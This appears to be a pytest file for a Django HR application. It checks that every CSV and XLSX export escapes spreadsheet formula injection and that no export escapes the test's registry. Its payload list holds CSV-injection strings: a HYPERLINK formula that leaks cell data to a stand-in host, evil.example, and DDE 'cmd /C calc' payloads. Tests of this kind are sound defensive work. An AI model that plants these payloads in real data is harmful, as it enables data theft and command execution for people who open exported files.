"""No export lets a spreadsheet run what a person typed (core/exports.py).

A comment ``=HYPERLINK(...)`` written by an employee, a name, a department or an adjustment
reason beginning with ``= + - @``, a tab or a carriage return is written with a leading single
quote in every CSV and XLSX the application offers, and an XLSX stores it as a string, never as a
formula; numbers stay numbers. The list of exports below is checked against the URL resolver and
against the code that builds a download, so a new export cannot be left out of this test.
"""

from __future__ import annotations

import ast
import csv
import datetime
import io
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from appraisals.models import Appraisal
from cascade.models import QualityPriority
from competencies.models import AppraisalForm
from core import exports
from core.log import log_action
from core.models import ActionLogEntry
from incentives.models.plans import Payout
from incentives.services import plans as plan_services
from people.models import Department, Employee, ImportStatus, OrgChartImport
from tests.appraisals.factories import ParticipantFactory, PublishedFormVersionFactory, ReviewCycleFactory
from tests.cascade.factories import FunctionalGoalFactory, IndividualGoalFactory, QualityPriorityFactory
from tests.factories import DepartmentFactory, EmployeeFactory

ROOT = Path(__file__).resolve().parent.parent.parent

# What this test counts as dangerous, written out here rather than read from core.exports, so
# that narrowing the function's list would fail the test: OWASP's leads, a line feed, the
# full-width forms.
DANGEROUS = set("=+-@\t\r\n＝＋－＠")
# One payload per lead: what an attacker would type into a name, a comment or a reason.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\t=HYPERLINK("https://evil.example/tab")',
    '\r=HYPERLINK("https://evil.example/return")',
]


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def leads_with_danger(text: str) -> bool:
    return text[:1] in DANGEROUS or text.lstrip()[:1] in DANGEROUS


def runnable(text: str) -> bool:
    """Whether a spreadsheet could read this cell of a download as a formula (a negative number
    written in a CSV, such as "-4.50", is a number)."""
    return leads_with_danger(text) and not NUMBER.fullmatch(text)


# ---------------------------------------------------------------- the function


@pytest.mark.parametrize("text", [*PAYLOADS, "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "\0=1"])
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert exports.safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Staff Nurse", "O'Brien", "", "a=b", "1-2", "HR (north)", "'=already escaped"])
def test_other_text_is_written_as_it_is(text):
    assert exports.safe_cell(text) == text


@pytest.mark.parametrize(
    "value",
    [None, 0, -3, -2.5, Decimal("-1565.00"), True, datetime.date(2026, 9, 20), datetime.datetime(2026, 9, 20, 10)],
)
def test_numbers_dates_and_none_pass_through_unchanged(value):
    assert exports.safe_cell(value) is value


def test_any_other_object_is_written_as_its_escaped_text():
    assert exports.safe_cell(Department(name="=SUM(A1)")) == "'=SUM(A1)"


@given(st.text())
def test_no_text_comes_out_beginning_with_a_formula_lead(text):
    escaped = exports.safe_cell(text)
    assert not leads_with_danger(escaped)
    assert escaped in (text, "'" + text)  # nothing is lost: at most one quote in front


@given(
    st.one_of(
        st.integers(),
        st.floats(),
        st.decimals(),
        st.dates(),
        st.datetimes(),
        st.booleans(),
        st.none(),
    )
)
def test_numbers_and_dates_always_pass_through(value):
    assert exports.safe_cell(value) is value


@pytest.mark.parametrize("write_only", [True, False])
def test_an_xlsx_row_stores_text_as_strings_and_numbers_as_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("S") if write_only else workbook.active
    exports.xlsx_row(sheet, ["=1+1", "#N/A", "bell\x07", Decimal("-2.50"), -1, None, datetime.date(2026, 1, 2)])
    cells = list(load_workbook(io.BytesIO(exports.xlsx_response(workbook, "x.xlsx").content)).worksheets[-1][1])
    assert [(c.value, c.data_type) for c in cells[:5]] == [
        ("'=1+1", "s"),
        ("#N/A", "s"),  # an error code is text too
        ("bell", "s"),  # a control character XML cannot hold is dropped, not a 500
        (-2.5, "n"),
        (-1, "n"),
    ]
    assert cells[5].value is None and cells[6].value == datetime.datetime(2026, 1, 2)


def test_a_streamed_csv_reads_its_rows_only_as_it_is_sent():
    sent: list[int] = []

    def rows():
        for n in range(3):
            sent.append(n)
            yield [n, "=x"]

    response = exports.csv_stream(rows(), "x.csv")
    assert response.streaming and sent == []
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body, newline=""))) == [["0", "'=x"], ["1", "'=x"], ["2", "'=x"]]


# ---------------------------------------------------------------- every export


@dataclass
class World:
    cycle: Any
    plan: Any
    org_import: Any


@dataclass(frozen=True)
class Export:
    """One download: its URL name, the object it is about, its format, and the function in the
    code that builds it (module path, function name)."""

    url_name: str
    fmt: str
    code: tuple[str, str]
    about: str | None = None  # the World attribute whose pk the URL takes
    query: dict[str, str] = field(default_factory=dict)
    api: bool = False
    carries_text: bool = True  # False: a fixed template with no one's text in it
    streams: bool = False

    def url(self, world: World) -> str:
        if self.about is None:
            return reverse(self.url_name)
        return reverse(self.url_name, kwargs={"pk": getattr(world, self.about).pk})

    def __str__(self) -> str:
        return f"{self.url_name}{'?' + '&'.join(f'{k}={v}' for k, v in self.query.items()) if self.query else ''}"


EXPORTS = [
    Export("appraisals:export_csv", "csv", ("appraisals/views/cycle_results.py", "export_csv"), "cycle", streams=True),
    Export("appraisals:export_xlsx", "xlsx", ("appraisals/views/cycle_results.py", "export_xlsx"), "cycle"),
    Export("incentives:export_csv", "csv", ("incentives/views/plans/exports.py", "export_csv"), "plan"),
    Export("incentives:export_xlsx", "xlsx", ("incentives/views/plans/exports.py", "export_xlsx"), "plan"),
    Export("incentive-plan-export-csv", "csv", ("incentives/api/plans.py", "_export_response"), "plan", api=True),
    Export("incentive-plan-export-xlsx", "xlsx", ("incentives/api/plans.py", "_export_response"), "plan", api=True),
    Export(
        "incentives:targets_import",
        "csv",
        ("incentives/views/plans/targets.py", "_template_response"),
        "plan",
        query={"template": "csv"},
    ),
    Export("cascade:matrix_csv", "csv", ("cascade/views/matrix.py", "matrix_csv"), query={"period": "all"}),
    Export("cascade:matrix_xlsx", "xlsx", ("cascade/views/matrix.py", "matrix_xlsx"), query={"period": "all"}),
    Export(
        "cascade:goal_import",
        "csv",
        ("cascade/views/goal_import.py", "goal_import"),
        query={"template": "csv"},
        carries_text=False,
    ),
    Export("history:csv", "csv", ("people/views/history.py", "history_csv"), streams=True),
    Export("people:import_errors", "csv", ("people/views/pages.py", "import_errors_csv"), "org_import"),
    Export("people:import_template", "csv", ("people/views/pages.py", "import_template_csv"), carries_text=False),
]


def _set(model, obj, **values) -> None:
    """Store a value as it is, past any cleaning on save: old rows, imports and the API may hold
    anything, and an export must be safe whatever it finds."""
    model.objects.filter(pk=obj.pk).update(**values)


@pytest.fixture
def world(cast) -> World:
    """Six people, each named after a payload, in a department of that name, reviewed in a cycle
    with that comment, paid with that adjustment reason, logged under that name; priorities
    and goals titled so; an org-chart import whose errors quote them."""
    hr = cast.hr.user
    cycle = ReviewCycleFactory()
    form = PublishedFormVersionFactory()
    _set(AppraisalForm, form.form, name=PAYLOADS[0])
    plan = plan_services.plan_create(user=hr, cycle=cycle, data={"name": "Clinical bonus"})
    reviewer = cast.manager
    for index, payload in enumerate(PAYLOADS):
        department = DepartmentFactory(name=f"Ward {index}")
        person = EmployeeFactory(department=department, manager=cast.manager)
        _set(Department, department, name=payload)
        _set(Employee, person, full_name=payload)
        participant = ParticipantFactory(cycle=cycle, employee=person, form_version=form, reviewer=reviewer)
        reviewer = person  # the next person's reviewer has a payload for a name
        Appraisal.objects.create(participant=participant, score=Decimal("-1.5") * index, employee_comment=payload)
        Payout.objects.create(
            plan=plan,
            employee=person,
            target_bonus=Decimal("1000.00"),
            computed_amount=Decimal("900.00"),
            amount=Decimal("950.00"),
            adjusted=True,
            adjustment_reason=payload,
        )
        priority = QualityPriorityFactory(owner=cast.hr)
        _set(QualityPriority, priority, title=payload)
        FunctionalGoalFactory(priority=priority, department=department, period=cycle.period)
        IndividualGoalFactory(owner=person, period=cycle.period, title=payload)
        department.refresh_from_db()
        entry = log_action(department, "department.updated", user=hr, changes={"name": ["Ward", payload]})
        _set(ActionLogEntry, entry, actor_label=payload)
    org_import = OrgChartImport.objects.create(
        created_by=hr,
        file_name="org.csv",
        content=b"",
        status=ImportStatus.REJECTED,
        errors=[{"row": n + 2, "field": payload, "message": payload} for n, payload in enumerate(PAYLOADS)],
    )
    return World(cycle=cycle, plan=plan, org_import=org_import)


def download(export: Export, world: World, cast, client_for, api_client_for) -> list[list[tuple[object, str]]]:
    """The export as HR downloads it: rows of (value, XLSX data type; "" for CSV) over every sheet."""
    client = api_client_for(cast.hr) if export.api else client_for(cast.hr)
    response = client.get(export.url(world), export.query)
    assert response.status_code == 200, f"{export}: {response.status_code}"
    assert response.streaming == export.streams, f"{export} should {'' if export.streams else 'not '}stream"
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if export.fmt == "csv":
        assert response["Content-Type"] == exports.CSV_CONTENT_TYPE
        text = body.decode("utf-8-sig")
        return [[(value, "") for value in row] for row in csv.reader(io.StringIO(text, newline=""))]
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(body))
    return [[(c.value, c.data_type) for c in row] for sheet in workbook.worksheets for row in sheet.iter_rows()]


def _lines(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")  # XML reads a carriage return back as a line feed


@pytest.mark.parametrize("export", EXPORTS, ids=str)
def test_every_export_writes_would_be_formulas_as_text(export, world, cast, client_for, api_client_for):
    rows = download(export, world, cast, client_for, api_client_for)
    cells = [cell for row in rows for cell in row]
    texts = [value for value, _ in cells if isinstance(value, str)]
    assert [t for t in texts if runnable(t)] == [], f"{export} writes text a spreadsheet would run"
    if export.fmt == "xlsx":
        assert {kind for value, kind in cells if isinstance(value, str)} <= {"s"}, f"{export} stores a formula"
        assert not [value for value, kind in cells if kind == "f"]
    if export.carries_text:
        escaped = {_lines(t) for t in texts if t.startswith("'")}
        missing = [p for p in PAYLOADS if _lines("'" + p) not in escaped]
        assert missing == [], f"{export} lost the seeded text (or the test no longer reaches it): {missing!r}"


def test_numbers_stay_numbers_in_the_xlsx_exports(world, cast, client_for, api_client_for):
    by_name = {e.url_name: e for e in EXPORTS}
    results = download(by_name["appraisals:export_xlsx"], world, cast, client_for, api_client_for)
    score = results[0].index(("Score", "s"))
    assert {row[score] for row in results[1:]} == {(Decimal("-1.5") * n, "n") for n in range(len(PAYLOADS))}
    for name in ("incentives:export_xlsx", "incentive-plan-export-xlsx"):
        payroll = download(by_name[name], world, cast, client_for, api_client_for)
        amount = payroll[0].index(("amount", "s"))
        assert {row[amount] for row in payroll[1:]} == {(950, "n")}


# ---------------------------------------------------------------- no export left out

EXPORT_WORDS = re.compile(r"export|csv|xlsx|template|payroll", re.IGNORECASE)
# The project's packages (tests and the benchmark script, which writes its own figures, aside).
PACKAGES = ["core", "people", "cascade", "competencies", "appraisals", "incentives", "audits", "home", "config"]
BUILDERS = {"csv_response", "csv_stream", "xlsx_response"}


def export_url_names() -> set[str]:
    """Every URL, page or API, whose name or path says it is a download."""
    found: set[str] = set()

    def walk(patterns, prefix: str, namespace: str) -> None:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(
                    entry.url_patterns,
                    prefix + str(entry.pattern),
                    f"{namespace}{entry.namespace}:" if entry.namespace else namespace,
                )
            elif isinstance(entry, URLPattern) and entry.name:
                if prefix.startswith("admin/"):
                    continue  # Django's admin offers no download
                if EXPORT_WORDS.search(entry.name) or EXPORT_WORDS.search(prefix + str(entry.pattern)):
                    found.add(namespace + entry.name)

    walk(get_resolver().url_patterns, "", "")
    return found


def python_files() -> list[Path]:
    return [p for package in PACKAGES for p in sorted((ROOT / package).rglob("*.py")) if "migrations" not in p.parts]


def functions_where(predicate: Callable[[ast.AST], bool]) -> set[tuple[str, str]]:
    """(module path, function or method name) for every function the predicate picks out."""
    found = set()
    for path in python_files():
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and predicate(node):
                found.add((str(path.relative_to(ROOT)), node.name))
    return found


def functions_calling(predicate: Callable[[ast.Call], bool]) -> set[tuple[str, str]]:
    """The functions with a call in them that the predicate picks out."""
    return functions_where(
        lambda function: any(isinstance(call, ast.Call) and predicate(call) for call in ast.walk(function))
    )


def _called(call: ast.Call) -> str:
    func = call.func
    return func.attr if isinstance(func, ast.Attribute) else func.id if isinstance(func, ast.Name) else ""


def test_every_download_url_is_in_this_test():
    assert export_url_names() - {e.url_name for e in EXPORTS} == set()


def test_every_function_that_builds_a_download_is_in_this_test():
    # A download behind a query string (?template=csv) has no URL of its own: the code tells.
    builders = functions_calling(lambda call: _called(call) in BUILDERS) - {
        ("core/exports.py", name) for name in BUILDERS
    }
    assert builders == {e.code for e in EXPORTS}


def test_no_download_is_written_without_core_exports():
    """No csv.writer and no CSV or XLSX content type outside core/exports.py, and no row appended
    to a workbook's sheet but by exports.xlsx_row: every export writes through the one escaping
    function."""

    def writes_csv_itself(call: ast.Call) -> bool:
        func = call.func
        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) and func.value.id == "csv":
            return func.attr in {"writer", "DictWriter"}
        return any(
            keyword.arg == "content_type"
            and isinstance(keyword.value, ast.Constant)
            and re.search(r"text/csv|spreadsheetml", str(keyword.value.value))
            for keyword in call.keywords
        )

    def fills_a_workbook_itself(function: ast.AST) -> bool:
        calls = [node for node in ast.walk(function) if isinstance(node, ast.Call)]
        return any(_called(c) == "Workbook" for c in calls) and any(_called(c) == "append" for c in calls)

    outside = functions_calling(writes_csv_itself) | functions_where(fills_a_workbook_itself)
    assert {where for where in outside if where[0] != "core/exports.py"} == set()
